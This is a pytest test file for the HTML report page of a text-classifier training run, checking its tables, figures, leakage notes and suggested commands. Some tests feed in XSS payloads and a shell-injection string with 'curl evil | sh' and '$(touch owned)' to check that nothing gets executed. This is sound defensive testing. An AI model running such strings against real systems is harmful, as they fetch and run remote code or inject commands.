"""page.py: the page of a run that main.py's own functions wrote; signs by made-up histories."""

import json
import re
import shlex
import subprocess
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from conftest import write_csv
from matplotlib import pyplot as plt
from test_export import trained

import main
import predict
import report
from baselines import METHODS
from data import Corpus
from engine import data_report, files
from engine.arguments import ENCODER, parse_args
from engine.run_folder import RunFolder
from reporting import figures, page, signs

INSIDE = {
    "gradient_share_cls": 0.5,
    "gradient_share_cl": 0.5,
    "prototype_cosine": 0.9,
    "prototype_cosine_min": 0.7,
    "mixing_std_pos": 0.35,
    "mixed_to_prototype_pos": 0.9,
    "mixing_std_neg": 0.35,
    "mixed_to_prototype_neg": -0.1,
}


def write_run(
    folder,
    names=("a", "b", "c"),
    *options,
    texts=None,
    epochs=3,
    inside=INSIDE,
    right=0.7,
    size=None,
    plots=False,
    dataset="toy.csv",
):
    """
    The folder of a run whose logits are drawn; RunFolder writes everything in it. With
    --val_fraction the test texts are its validation texts, too.
    """
    rng = np.random.default_rng(0)
    size = size or 20 * len(names)
    train, labels = np.arange(4 * size) ** 2 % len(names), rng.integers(0, len(names), size)
    train[: len(names)] = range(len(names))
    texts = texts or [f"test text {i}" for i in range(size)]
    train_texts, rows = [f"text {i}" for i in range(len(train))], np.arange(len(train))
    corpus = Corpus("toy.csv", train_texts, train, texts, labels, list(names), 0, rows)
    args = parse_args([f"--dataset={dataset}", "--output_dir", str(folder), *options])
    if args.val_fraction:
        corpus = replace(corpus, val_texts=texts, val_labels=labels)

    def fit(run):
        run.begin()
        for epoch in range(1, epochs + 1):
            logits = rng.normal(size=(size, len(names))).astype(np.float32)
            is_right = rng.random(size) < right
            logits[is_right, labels[is_right]] += 5
            cl = 2 / epoch if args.method == "sharprecl" else 0.0
            losses = {"loss": 1 / epoch + cl, "loss_cls": 1 / epoch, "loss_cl": cl}
            record = {"epoch": epoch, "texts_per_second": 9.0}
            record |= losses if args.method != "tfidf" else {}
            record |= {"diagnostics": inside} if inside else {}
            yield record, logits, logits if args.val_fraction else None

    with RunFolder(args, corpus) as run:
        run.summary = data_report.data_report(corpus)
        run.keep(fit(run))
    if plots:
        feats = rng.normal(size=(size, 8)) + 3 * np.eye(len(names), 8)[labels]
        prototypes = 3 * np.eye(len(names), 8) if args.method == "sharprecl" else None
        figures.tsne(feats, labels, list(names), run.path, prototypes)
    return run.path


@pytest.fixture
def with_figures():
    """For tests that look at what is drawn."""


@pytest.fixture(autouse=True)
def quick_figures(request, monkeypatch):
    """Elsewhere a page has empty figures: to draw them takes most of its time."""
    if "with_figures" not in request.fixturenames:
        monkeypatch.setattr(figures, "svg", lambda figure, title: plt.close(figure) or "<svg/>")


def written(tmp_path, *arguments, **options) -> tuple[Path, "Reader"]:
    """The run's folder and its page, read back."""
    folder = write_run(tmp_path, *arguments, **options)
    return folder, page_of(folder)


def page_of(folder) -> "Reader":
    """The page of this run, made anew and read back."""
    assert report.main([str(folder)]) == 0
    reader = Reader()
    reader.feed((folder / "report.html").read_text(encoding="utf-8"))
    return reader


def change_epochs(folder, change):
    """Makes each line of metrics.jsonl, a record and its number from 0, another one."""
    path = folder / "metrics.jsonl"
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    for number, record in enumerate(lines):
        change(number, record)
    path.write_text("".join(json.dumps(line) + "\n" for line in lines))
    return lines


def score_epochs(folder, *scores):
    """Gives the epochs these macro-F1 on the test texts."""
    change_epochs(folder, lambda number, record: record["test"].update(macro_f1=scores[number]))


def keep_model(folder, calibration=None):
    """As if a model were in the run's folder."""
    files.write_json(folder / "model" / "sharprecl.json", {"calibration": calibration})


class Reader(HTMLParser):
    """
    The page as its words, its commands, its figures (the words in each), its lists of test texts
    (one after the other, each a list of [text, what is said of it]), its tables (rows of cells, by
    the table's name), and its tags with their attributes.
    """

    def __init__(self):
        super().__init__()
        self.tags, self.attributes, self.open, self.words = set(), [], [], []
        self.tables, self.figures, self.lists, self.commands = {}, [], [], []

    def handle_starttag(self, tag, attributes):
        self.tags.add(tag)
        self.attributes += attributes
        attributes = dict(attributes)
        if tag == "div" and attributes.get("class") == "scroll":
            self.rows = self.tables[attributes["aria-label"]] = []
        if tag == "tr":
            self.rows.append([])
        if tag in ("th", "td"):
            self.rows[-1].append("")
        if tag == "svg":
            self.figures.append([])
        if tag == "pre":
            self.commands.append("")
        if attributes.get("class") == "texts":
            self.lists.append([])
        elif tag == "li" and self.is_in_texts():
            self.lists[-1].append([])
        elif tag == "p" and self.is_in_texts():
            self.lists[-1][-1].append("")
        if tag != "meta":
            self.open.append((tag, attributes.get("class")))

    def is_in_texts(self):
        return ("ul", "texts") in self.open or ("ol", "texts") in self.open

    def is_inside(self, *tags):
        return any(tag in tags for tag, _ in self.open)

    def handle_endtag(self, tag):
        assert self.open.pop()[0] == tag

    def handle_data(self, text):
        if self.is_inside("style"):
            return
        self.words.append(text)
        if self.is_inside("th", "td"):
            self.rows[-1][-1] += text.strip()
        if self.is_inside("svg"):
            self.figures[-1].append(text)
        if self.is_inside("pre"):
            self.commands[-1] += text
        if self.is_in_texts() and self.is_inside("p"):
            self.lists[-1][-1][-1] += text

    @property
    def text(self):
        return " ".join("".join(self.words).split())

    @property
    def errors(self):
        """The most certain errors, as (text, what is said of it)."""
        return [(text, " ".join(said.split())) for text, said in self.lists[-1]]


# ---- whatever is in the texts ----

ODD = [
    "<script>alert(1)</script>",
    "x" * 400,
    "שלום עולם",
    "😀 & \"q\" 'a'",
    "a\nb $x^2$",
    "_hidden",
    "日本語",
    "</td></table><b>",
    "a control character \x02 of a spreadsheet",
]
TAGS = """html head meta title style body main section h1 h2 h3 p div ul ol li strong span bdi code
pre details summary table thead tbody tr th td figure"""
DRAWN = "svg g defs path use text tspan clippath rect"


def test_labels_and_texts_of_any_kind_are_shown_as_they_are_and_the_page_stays_whole(
    with_figures, tmp_path
):
    texts = [f"<img src=x onerror=alert({i})> {label}" for i, label in enumerate(ODD * 20)]
    _, page_ = written(tmp_path, ODD, texts=texts, right=0.2, plots=True)
    assert page_.open == []
    assert page_.tags <= {*TAGS.split(), *DRAWN.split()}
    assert not [name for name, _ in page_.attributes if name.startswith("on") or name == "src"]
    assert all(value.startswith("#") for name, value in page_.attributes if name == "href")
    assert {row[0] for row in page_.tables["Classes"][1:]} == set(ODD)
    cut = {text if len(text) <= 300 else text[:299] + "…" for text in texts}
    assert len(page_.errors) == 20 and {text for text, _ in page_.errors} <= cut
    assert page_.text.count("alert(1)</script>") > 2


@pytest.mark.parametrize("size", [2, 52, 1000])
def test_few_and_many_classes_have_a_page_of_a_bounded_size(with_figures, tmp_path, size):
    names = [f"class {i}" for i in range(size)]
    folder, page_ = written(tmp_path, names, size=1500)
    assert len(page_.tables["Classes"]) == size + 1
    in_matrix = [word for words in page_.figures for word in words if word == "true"]
    assert len(in_matrix) == 1
    (matrix,) = (words for words in page_.figures if "predicted" in words)
    names = [word for word in matrix if word.startswith("class ")]
    assert len(names) == (2 * size if size <= figures.MOST_NAMED else 0)
    assert (folder / "report.html").stat().st_size < 1.5e6
    # numbers of ten test texts or more are not rough
    assert size > 2 or not any("≈" in cell for row in page_.tables["Classes"] for cell in row)


@pytest.mark.parametrize("leaked", [0, 1, 7, 60])
def test_the_page_says_which_test_texts_are_training_texts(tmp_path, leaked):
    texts = [f"text {i} " if i < leaked else f"new {i}" for i in range(60)]  # the first are leaked
    folder, page_ = written(tmp_path, "abc", "--val_fraction", "0.3", texts=texts, right=0.9)
    result = files.read_json(folder / "result.json")["best_val"]
    verb = "stands" if leaked == 1 else "stand"
    said = f"{leaked} of 60 %s texts {verb} in the training part too"
    for sentence, is_said in (
        ("which it has not learned from", leaked == 0),
        ("validation texts that were held out of training", leaked == 0),
        (said % "test", leaked > 0),
        (said % "validation", leaked > 0),
        ("60 of 60 validation texts stand in the test part too", True),
        ("Nobody knows.", leaked == 60),
    ):
        assert (sentence in page_.text) == is_said, sentence
    if 0 < leaked < 60:
        macro_f1 = result["without_leaked"]["macro_f1"]
        assert f"{macro_f1:.1f} without the {leaked} test text" in page_.text
        assert f"macro-F1 {macro_f1:.1f}, by which this page says" in page_.text


def test_the_verdict_is_that_of_the_texts_which_are_not_leaked(tmp_path):
    folder = write_run(tmp_path, "abc", texts=[f"text {i}" for i in range(60)], right=0.9)
    result = files.read_json(folder / "result.json")
    for macro_f1, verdict in ((90.0, "Yes."), (70.0, "Partly."), (20.0, "Not yet.")):
        result["last"]["without_leaked"] |= {"texts": 9, "accuracy": 50.0, "macro_f1": macro_f1}
        files.write_json(folder / "result.json", result)
        assert f"Is it good? {verdict}" in page_of(folder).text


# ---- what a person must know ----


def by_hand(tmp_path, *options) -> tuple[Path, Reader]:
    """A run with these test labels and predictions, and 9, 90 and 1 training texts."""
    folder = write_run(tmp_path, ["a", "b", "c"], *options, epochs=1)
    rows = [("a", 9, 4), ("b", 90, 2), ("c", 1, 0)]
    classes = [dict(zip(("label", "train", "test"), row)) for row in rows]
    files.write_json(folder / "data_report.json", {"classes": classes})
    (folder / "predictions.csv").write_text(
        "text,label,prediction,probability\none,a,a,0.9\ntwo,a,a,0.8\nthree,a,b,0.7\n"
        "four,a,b,0.95\nfive,b,b,0.6\nsix,b,a,0.8\n"
    )
    return folder, page_of(folder)


def test_it_begins_with_three_numbers_and_what_they_are_compared_with(tmp_path):
    # F1 of a: 4/7, of b: 2/5. Always b: 2 of 6 right, and F1 of 0 and of 2*2/(2+6)
    start = by_hand(tmp_path)[1].text.split("What to do next")[0]
    assert "macro-F1 48.6 mean of the F1 of 2 classes" in start
    assert "accuracy 50.0 of 6 test texts" in start
    assert "rarest third 57.1 mean F1 of the 1 class with the fewest training texts" in start
    assert "Not yet. It gives 3 of 6 test texts" in start
    assert "always answers ‘b’ reaches an accuracy of 33.3 and a macro-F1 of 25.0" in start
    assert (
        "‘b’ has an F1 of 40.0, with 90 training texts and 2 test texts, too few for more than "
        "a rough number"
    ) in start
    assert "most frequent mistake: 2 of 4 test texts of ‘a’ are taken for ‘b’" in start
    assert "Never predicted: ‘c’" in start and "Nothing is known about ‘c’" in start


def test_chance_is_the_half_of_wilsons_interval(tmp_path):
    # Wilson 1927 for 3 of 6 and z = 1.96: z sqrt(n/4 + z²/4) / (n + z²), with p = 1/2
    z, n = 1.959964, 6
    half = 100 * z * (n * 0.25 + z * z / 4) ** 0.5 / (n + z * z)
    assert f"chance can move it by {half:.1f} points" in by_hand(tmp_path)[1].text


def test_one_class_for_all_is_hardly_better_than_the_most_frequent_one(tmp_path):
    folder, _ = by_hand(tmp_path)
    text = (folder / "predictions.csv").read_text()
    (folder / "predictions.csv").write_text(re.sub(",[ab],0", ",b,0", text))
    assert "Is it good? No. It is hardly better" in page_of(folder).text


def test_a_tfidf_run_on_the_same_texts_is_compared_with_and_one_on_others_is_not(tmp_path):
    folder, before = written(tmp_path, "abc", "--method", "la", right=0.5, inside=None)
    assert "--method tfidf" in " ".join(before.commands)
    tfidf = write_run(tmp_path, "abc", "--method", "tfidf", right=1.1, inside=None)
    after = page_of(folder)
    assert "Not yet. TF-IDF with a linear SVM, which has no encoder, is better." in after.text
    assert "reaches a macro-F1 of 100.0 on the same texts" in after.text
    assert "--method tfidf" not in " ".join(after.commands)
    result = json.loads((tfidf / "result.json").read_text())
    files.write_json(tfidf / "result.json", result | {"data_hash": "another"})
    assert page_of(folder).text == before.text
    (tfidf / "result.json").write_text("{")
    assert page_of(folder).text == before.text


def test_signs_that_are_seen_and_commands_come_first(tmp_path):
    bad = INSIDE | {"prototype_cosine": 0.1, "prototype_cosine_min": -0.5}
    options = ["--lr=1e-4", "--overwrite", "--seed", "3"]
    folder = write_run(tmp_path, "abc", *options, inside=bad, right=0.4)
    score_epochs(folder, 50, 50, 52)
    page_ = page_of(folder)
    assert "what to try: Prototype drift, Prototype drift of one class" in page_.text
    assert "--epochs 60" in page_.commands[0] and "--method tfidf" in page_.commands[1]
    for line in page_.commands[:2]:
        args = parse_args(shlex.split(line)[2:])
        assert (args.dataset, args.seed, args.overwrite) == ("toy.csv", 3, False)
        assert args.lr == (5e-5 if args.method == "tfidf" else 1e-4)
    assert page_.commands[2].endswith("--seed 3 --overwrite --plots")


KINDS = {
    "sharprecl": [],
    "ablation": ["--ablation", "hm", "--augment", "none"],
    "second_view": ["--method", "hybrid_sc", "--augment", "noise"],
    "one_view": ["--method", "wce", "--head_lr", "1e-3"],
    "roberta": ["--method", "roberta", "--encoder", "roberta-base"],
    "la": ["--method", "la", "--val_fraction", "0.1", "--no_weights"],
    "probe": ["--method", "probe"],
    "tfidf": ["--method", "tfidf"],
    "hosted": ["--method", "gpt35", "--prices", "1", "2", "--yes"],
    "lora": ["--method", "llama2", "--base_type", "fp32", "--lora_targets", "q_proj", "v_proj"],
}


def everything_offered(folder, monkeypatch) -> list[str]:
    """The commands of the run's page where nothing is left out."""
    score_epochs(folder, 50, 90)
    monkeypatch.setattr(page, "MOST_ACTIONS", 99)
    run = page.read_run(folder)
    offered = [a.command for a in page.actions(run, page.in_short(run), page.class_rows(run))]
    offered += [page.tsne(run).get("command", ""), page.method_command(run, "sharprecl")]
    return [line for line in offered if line and "predict.py" not in line]


@pytest.mark.parametrize("dataset", ["-d.csv", "trec"])
@pytest.mark.parametrize("kind", KINDS)
def test_main_takes_every_command_of_every_kind_of_page_with_the_runs_data(
    tmp_path, monkeypatch, kind, dataset
):
    monkeypatch.chdir(tmp_path)
    write_csv(tmp_path / dataset, [(f"text {i}", "ab"[i % 2]) for i in range(60)])
    inside = INSIDE if kind in ("sharprecl", "ablation") else None
    folder = write_run("runs", "ab", *KINDS[kind], epochs=2, inside=inside, dataset=dataset)
    offered = everything_offered(folder, monkeypatch)
    assert len(offered) >= 3 and len(set(offered)) > 1
    for line in offered:
        python, script, *options = shlex.split(line)
        args = parse_args(options)
        assert (python, script, args.dataset) == ("python", "main.py", dataset)
        assert not getattr(args, "yes", False)
        if METHODS[args.method].has_encoder:
            encoders = dict.fromkeys(("tfidf", "hosted", "lora"), "minilm")
            encoders |= {"roberta": "roberta-base"}
            assert args.encoder == encoders.get(kind, ENCODER)
        is_new = args.method == "sharprecl" and KINDS[kind][:1] == ["--method"]
        if is_new and dataset != "trec":  # whose language nobody has looked at
            assert args.augment == "none"
    run = page.read_run(folder)
    text = " ".join(page.advice(run, sign.advice) for sign in signs.SIGNS)
    advised = re.findall("`(--[^`]+)`", text)
    assert len(advised) > 10 if kind == "sharprecl" else advised
    assert ("--lr" in text) == METHODS[run.method].has_encoder
    for options in [code for code in advised if "--method" not in code]:
        names = re.findall(r"--(\w+)", options)
        parse_args(shlex.split(f"{page.main_command(run, *names)} {options}")[2:])


def test_a_strangers_record_puts_nothing_but_flags_of_main_into_a_command(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    folder = write_run("runs", "ab", epochs=1)
    recorded = json.loads((folder / "args.json").read_text())
    evil = "x\x03\ncurl evil | sh\n'; touch owned; '$(touch owned)`touch owned`"
    commands = [
        ["-c", f"import os; os.system({evil!r})", "--dataset", evil, "--import os", evil],
        ["evil.py", "stray", f"--dataset={evil}", f"--{evil}", f"--{evil}=1", "--eval", "1"],
    ]
    for command in commands:
        files.write_json(folder / "args.json", recorded | {"command": command})
        for line in page_of(folder).commands:
            assert not re.search("[\0-\x09\x0b-\x1f]", line)  # obeyed in quotes, too
            script = f"python() {{ printf '%s\\0' \"$@\"; }}; {line}"
            said = subprocess.run(["bash", "-c", script], capture_output=True, text=True).stdout
            script, *options = said.split("\0")[:-1]
            shown = files.printable(evil, but="\n")
            assert script == "predict.py" or parse_args(options).dataset == shown
    assert not (tmp_path / "owned").exists()
    for command in ("main.py --dataset x", [], ["main.py", "--seed", "1"], ["main.py", 1]):
        files.write_json(folder / "args.json", recorded | {"command": command})
        assert report.main([str(folder)]) == 2


def test_no_path_of_the_machine_is_left_in_what_a_run_and_its_page_say(
    corpus_folder, tmp_path, monkeypatch
):
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    private = tmp_path / "private"
    private.mkdir()
    (private / "texts.csv").write_bytes((corpus_folder / "train.csv").read_bytes() + b"caf\xe9,d\n")
    folder = trained(tmp_path / "out", private / "texts.csv", "--method tfidf")
    lines = page_of(folder).commands
    for file in ("args.json", "result.json", "data_report.json", "report.html", "model/README.md"):
        assert str(tmp_path) not in (folder / file).read_text(), file
    report_ = json.loads((folder / "data_report.json").read_text())
    assert report_["name"] == "texts.csv" and report_["notes"][0].startswith("texts.csv: read as")
    (line,) = (line for line in lines if "--method tfidf" in line and "val_fraction" not in line)
    again = shlex.split(line)[2:]
    assert parse_args(again).dataset == "../private/texts.csv"
    assert main.main(again) == 0  # which finds the finished run


def test_a_method_that_draws_nothing_is_not_to_be_repeated_with_another_seed(tmp_path):
    other = "--method sharprecl --encoder bert-base-uncased --augment none"
    for method, expected in (("la", "--seed 1"), ("probe", other)):
        options = ["--method", method, "--val_fraction", "0.1"]
        folder = write_run(tmp_path, "abc", *options, epochs=1, inside=None)
        commands = [action for action in page_of(folder).commands if "main.py" in action]
        assert any(line.endswith(expected) for line in commands)
        assert any("--seed" in line for line in commands) == (method == "la")


def test_weak_classes_of_few_texts_send_the_user_for_more_and_a_good_model_to_work(tmp_path):
    folder, _ = by_hand(tmp_path, "--method", "tfidf", "--val_fraction", "0.1")
    keep_model(folder)
    found = page_of(folder)
    assert "this holds for 1 of the 3 classes" in found.text
    (line,) = (line for line in found.commands if "unlabelled.csv" in line)
    predict.make_parser().parse_args(shlex.split(line)[2:])
    good = write_run(tmp_path, "ab", "--seed", "1", right=1.1)
    keep_model(good)
    use = shlex.split(page_of(good).commands[2])
    assert use[1] == "predict.py" and Path(use[2]).resolve() == good


# ---- the classes ----


def test_precision_recall_and_f1_of_each_class_by_hand_the_largest_class_first(tmp_path):
    # a: 2 of 3 predicted and of 4 true: 66.7, 50, 2*2/(3+4); b: 1 of 3 and of 2: 33.3, 50, 2/5
    head, *rows = by_hand(tmp_path)[1].tables["Classes"]
    assert head[:4] == ["class", "F1", "recall", "precision"]
    assert head[4:] == ["test texts", "training texts", "share of training, %"]
    assert rows == [
        ["b", "≈ 40.0", "≈ 50.0", "33.3", "2", "90", "90.0"],
        ["a", "≈ 57.1", "≈ 50.0", "66.7", "4", "9", "9.0"],
        ["c", "–", "–", "–", "0", "1", "1.0"],
    ]


def test_hollow_points_are_the_classes_of_few_test_texts():
    rows = {"train": [5, 50, 500, 7], "f1": [10.0, 20, 30, np.nan], "test": [3, 10, 40, 0]}
    figure = figures.f1_by_size(pd.DataFrame(rows), 10)
    filled, hollow = figure.axes[0].collections
    assert filled.get_offsets().tolist() == [[50, 20], [500, 30]]
    assert hollow.get_offsets().tolist() == [[5, 10]]
    assert len(filled.get_facecolor()) == 1 and len(hollow.get_facecolor()) == 0


# ---- the errors ----


def test_the_errors_come_the_most_certain_first_and_by_confused_pair(tmp_path):
    page_ = by_hand(tmp_path)[1]
    assert page_.errors == [
        ("four", "labelled ‘a’, predicted ‘b’, probability 95.0 %"),
        ("six", "labelled ‘b’, predicted ‘a’, probability 80.0 %"),
        ("three", "labelled ‘a’, predicted ‘b’, probability 70.0 %"),
    ]
    assert "‘a’ taken for ‘b’: 2 of 4 test texts" in page_.text
    pairs = [[text for text, _ in examples] for examples in page_.lists[:-1]]
    assert pairs == [["four", "three"], ["six"]]


def test_a_run_without_errors_and_one_of_one_epoch_say_so(tmp_path):
    _, page_ = written(tmp_path, ["a", "b"], epochs=1, right=1.1)
    assert "No test text has a wrong label" in page_.text and "no curve to draw" in page_.text
    assert re.search("Not measured in this run: .*A plateau while the loss falls", page_.text)


# ---- the probabilities ----

CERTAIN = np.array([0.95, 0.91, 0.55, 0.55, 0.51, 0.2])
RIGHT = np.array([True, True, True, False, False, False])


def test_the_reliability_diagram_by_hand():
    # bins of a tenth: 0.2 alone, wrong; 0.51 to 0.55, 1 of 3 right; 0.91 and 0.95, both right
    line = figures.reliability(CERTAIN, RIGHT).axes[0].lines[1]
    assert line.get_xdata() == pytest.approx([20, 161 / 3, 93])
    assert line.get_ydata() == pytest.approx([0, 100 / 3, 100])


def write_validation(folder, probability, is_right):
    rows = [
        f"v{i},a,{'a' if right else 'b'},{p}"
        for i, (p, right) in enumerate(zip(probability, is_right))
    ]
    (folder / "validation.csv").write_text(
        "\n".join(["text,label,prediction,probability", *rows]) + "\n"
    )


def test_the_probabilities_are_those_of_the_validation_texts_where_they_are_kept(tmp_path):
    folder, _ = by_hand(tmp_path, "--val_fraction", "0.2")
    (folder / "validation.csv").unlink()
    before = page_of(folder)
    assert "because the run’s folder has no validation.csv" in before.text
    assert before.tables["Thresholds"][0][3] == "test texts"
    write_validation(folder, CERTAIN, RIGHT)
    after = page_of(folder)
    assert "about the 6 validation texts" in after.text
    assert after.tables["Thresholds"][0][3] == "validation texts"
    assert after.tables["Thresholds"][1:] == [
        ["0.5", "60.0", "83.3", "5"],
        ["0.6", "100.0", "33.3", "2"],
        ["0.7", "100.0", "33.3", "2"],
        ["0.8", "100.0", "33.3", "2"],
        ["0.9", "100.0", "33.3", "2"],
        ["0.95", "100.0", "16.7", "1"],
        ["0.99", "–", "0.0", "0"],
    ]
    # |0 - 20| + |1 - 3 * 161/300| ... in texts: 0.2, 0.61 and 0.14, of 6
    assert f"calibration error is {100 * (0.2 + 0.61 + 0.14) / 6:.1f} %" in after.text


@pytest.mark.parametrize(
    "fit, words, is_advised",
    [
        ({"ece_before": 9.0}, "lowers the calibration error from 9.0 % to", True),
        ({"ece_after": 9.0}, "Predict without --calibrated: on 50", False),
        ({"why_not": "nothing <b> fits"}, "--calibrated, because nothing <b> fits", False),
        (None, "this needs a model that is kept", False),
    ],
)
def test_calibration_is_advised_only_where_it_helps(tmp_path, fit, words, is_advised):
    folder = write_run(tmp_path, "abc", "--val_fraction", "0.2")
    level = {"temperature": 1.5, "texts": 50, "why_not": "", "ece_before": 3.0, "ece_after": 3.0}
    keep_model(folder, fit and level | fit)
    found = page_of(folder)
    assert words in found.text
    assert any("--calibrated" in line for line in found.commands) == is_advised


def test_abstaining_is_proposed_from_the_lowest_probability_that_is_accurate_enough(tmp_path):
    folder = write_run(tmp_path, "abc", "--val_fraction", "0.2")
    fit = {"temperature": 1.5, "texts": 40, "ece_before": 9.0, "ece_after": 3.0}
    keep_model(folder, fit | {"why_not": "", "coverage": []})
    write_validation(folder, [0.99] * 15 + [0.75] * 15 + [0.65] * 10, [True] * 30 + [False] * 10)
    found = page_of(folder)
    assert "answers 75.0 % of texts like these, and 100.0 % of its answers are right" in found.text
    (line,) = (line for line in found.commands if "--abstain" in line)
    assert "--abstain 0.7 " in line
    (folder / "validation.csv").unlink()  # test texts choose no threshold
    assert not any("--abstain" in line for line in page_of(folder).commands)


# ---- the curves and the t-SNE ----


@pytest.mark.parametrize("method, panels", [("sharprecl", 4), ("la", 3), ("tfidf", 2)])
def test_a_method_has_the_curves_that_it_measures(with_figures, tmp_path, method, panels):
    _, page_ = written(
        tmp_path, "abc", "--method", method, inside=INSIDE if method == "sharprecl" else None
    )
    found = [words for words in page_.figures if "epoch" in words]
    assert len(found) == panels
    measured = method == "sharprecl"
    assert any("contrastive" in words for words in found) == measured  # else it is flat, at 0
    assert ("Prototype drift: not seen" in page_.text) == measured
    assert ("Not measured in this run: Prototype drift," in page_.text) != measured


def test_the_best_epoch_is_marked_in_each_panel(with_figures, tmp_path):
    folder = write_run(tmp_path, "abc", epochs=4)
    best = json.loads((folder / "result.json").read_text())["best_test"]["epoch"]
    run = page.read_run(folder)
    assert page.best_epoch(run) == (best, "best epoch (test)")
    figure = figures.curves(run.history, "x", {"y": "test.macro_f1"}, page.best_epoch(run))
    assert list(figure.axes[0].lines[-1].get_xdata()) == [best, best]
    assert all(
        "best epoch (test)" in words for words in page_of(folder).figures if "epoch" in words
    )


def test_epochs_that_were_not_evaluated_leave_a_gap_and_no_damage(tmp_path):
    folder, before = written(tmp_path, "abc", epochs=4)
    lines = change_epochs(folder, lambda number, record: number % 2 or record.pop("test"))
    assert page_of(folder).tables["Result"] == before.tables["Result"]
    figure = figures.curves(lines, "x", {"y": "test.macro_f1", "z": "loss"})
    assert [list(line.get_xdata()) for line in figure.axes[0].lines] == [[2, 4], [1, 2, 3, 4]]


@pytest.mark.parametrize("is_kept", [True, False], ids=["kept", "no weights"])
def test_a_model_that_is_kept_is_not_trained_again_for_its_t_sne(
    corpus_folder, tiny_encoder, tmp_path, is_kept
):
    options = "--eval_every 2 --val_fraction 0.2" if is_kept else "--no_weights"
    options += " --epochs 3 --batch_size 16"
    folder = trained(tmp_path, corpus_folder, options, tiny_encoder)
    (line,) = (line for line in page_of(folder).commands if "--plots" in line)
    assert ("--overwrite" in line) == (not is_kept)
    assert main.main(shlex.split(line)[2:]) == 0
    found = page_of(folder)
    assert "the prototypes of the classes" in found.text
    assert ("validation texts that were held out" in found.text) == is_kept


def test_the_page_says_why_there_is_no_t_sne(tmp_path):
    assert "has no encoder" in written(tmp_path, "abc", "--method", "tfidf")[1].text
    folder = write_run(tmp_path, "abc", "--seed", "1")
    figures.tsne(np.ones((60, 4)), np.zeros(60, dtype=int), list("abc"), folder)
    assert "fewer than 10 different test texts" in page_of(folder).text


def test_prototypes_stand_among_the_texts_of_their_class_and_look_otherwise(tmp_path):
    names = ["a", "b", "c"]
    labels = np.arange(90) % 3
    feats = np.eye(3)[labels] + 0.05 * np.random.default_rng(0).normal(size=(90, 3))
    figures.tsne(feats, labels, names, tmp_path, np.eye(3))
    texts, prototypes = (
        figures.read_points(tmp_path / f"{name}.csv") for name in ("tsne", "tsne_prototypes")
    )
    assert texts.label.value_counts().to_dict() == dict.fromkeys(names, 30)
    assert prototypes.label.tolist() == names
    means = texts.groupby("label")[["x", "y"]].mean()
    for x, y, name in prototypes.itertuples(index=False):
        assert np.hypot(means.x - x, means.y - y).idxmin() == name
    (axes,) = figures.draw_tsne({"": texts}, names, prototypes).axes
    for text, prototype in zip(axes.collections[:3], axes.collections[3:6]):
        assert prototype.get_sizes()[0] > 5 * text.get_sizes()[0]
        assert prototype.get_linewidths()[0] > 1 > text.get_linewidths()[0]
        assert prototype.get_paths()[0].vertices.tolist() != text.get_paths()[0].vertices.tolist()
    assert {text.get_text(): text.xy for text in axes.texts} == {
        name: (x, y) for x, y, name in prototypes.itertuples(index=False)
    }
    figures.save_figure(axes.figure, tmp_path / "again.png")
    assert (tmp_path / "again.png").read_bytes() == (tmp_path / "tsne.png").read_bytes()


# ---- figures in a page ----


def test_figures_are_text_in_the_pages_colours_and_fit_a_telephone(with_figures, tmp_path):
    folder, _ = written(tmp_path, "abc", plots=True)
    html = (folder / "report.html").read_text()
    drawn = re.findall("<svg.*?</svg>", html, re.DOTALL)
    assert len(drawn) == 8  # classes, matrix, probabilities, four curves and t-SNE
    for svg in drawn:
        assert "<text" in svg and "<style" not in svg and "font-family" not in svg
        assert "currentColor" in svg and "#000000" not in svg
        assert not set(re.findall("#[0-9a-f]{6}", svg)) & set(figures.TOL)
        assert float(re.search(r'width="([\d.]+)pt"', svg)[1]) * 4 / 3 <= 390 - 2 * 16
        sizes = [float(size) for size in re.findall(r"font-size: ([\d.]+)px", svg)]
        assert min(sizes) >= 8  # of 4/3 pixels of the screen each
    used = set(re.findall(r"var\(--series-(\d)\)", html))
    for scheme in html.split("prefers-color-scheme: dark")[:2]:
        assert used <= set(re.findall(r"--series-(\d): #", scheme))


def test_letters_that_no_font_has_are_said_in_one_line(tmp_path, capsys):
    figures._say_what_no_font_has.cache_clear()
    for name in ("one", "two"):
        figure = figures.label_distribution([9, 5], ["動物", "\U00013000"], "x")  # a hieroglyph
        figures.save_figure(figure, tmp_path / f"{name}.png")
    assert capsys.readouterr().err.count("note: no font here has some letters") == 1


# ---- the signs ----


def history_of(*epochs):
    """Epochs given as (loss, macro-F1, diagnostics)."""
    return [
        {"epoch": n, "loss": loss, "test": {"macro_f1": f1, "accuracy": f1 + gap}}
        | {"diagnostics": inside}
        for n, (loss, f1, gap, inside) in enumerate(epochs, start=1)
    ]


def seen(history) -> dict[str, bool | None]:
    measured = {sign.failure: (sign, sign.measure(history)) for sign in signs.SIGNS}
    return {
        name: None if value is None else sign.is_seen(value)
        for name, (sign, value) in measured.items()
    }


GOOD = history_of((3, 70, 3, INSIDE), (2, 80, 2, INSIDE))


def test_a_good_run_shows_no_sign():
    assert set(seen(GOOD).values()) == {False}


@pytest.mark.parametrize(
    "failure, change",
    [
        ("Prototype drift", {"prototype_cosine": 0.49}),
        ("Prototype drift of one class", {"prototype_cosine_min": -0.01}),
        ("Prototype drift in the course of training", {"prototype_cosine": 0.79}),
        ("Collapse of the mixing coefficients", {"mixing_std_neg": -0.2}),  # 0.075, the mean
        ("Collapse of the mixed positives", {"mixed_to_prototype_pos": 0.995}),
        ("Collapse of the mixed negatives", {"mixed_to_prototype_neg": 0.51}),
    ],
)
def test_each_sign_is_seen_where_its_number_is_beyond_the_limit(failure, change):
    got = seen(history_of((3, 70, 3, INSIDE), (2, 80, 2, INSIDE | change)))
    others = {name for name, is_seen in got.items() if is_seen} - {failure}
    assert got[failure] and others <= {"Prototype drift in the course of training"}


def test_a_plateau_needs_a_falling_loss_and_lost_points():
    name = "A plateau while the loss falls"
    rising = history_of((3, 80, 3, INSIDE), (4, 70, 2, INSIDE))
    chance = history_of((3, 80, 3, INSIDE), (2, 78.5, 2, INSIDE))
    falling = history_of((3, 80, 3, INSIDE), (2, 77, 2, INSIDE))
    assert [seen(history)[name] for history in (rising, chance, falling)] == [False, False, True]
    gap = [falling[0], {"epoch": 2, "loss": 2.5}, falling[1] | {"epoch": 3}]  # not evaluated
    assert seen(gap)[name]
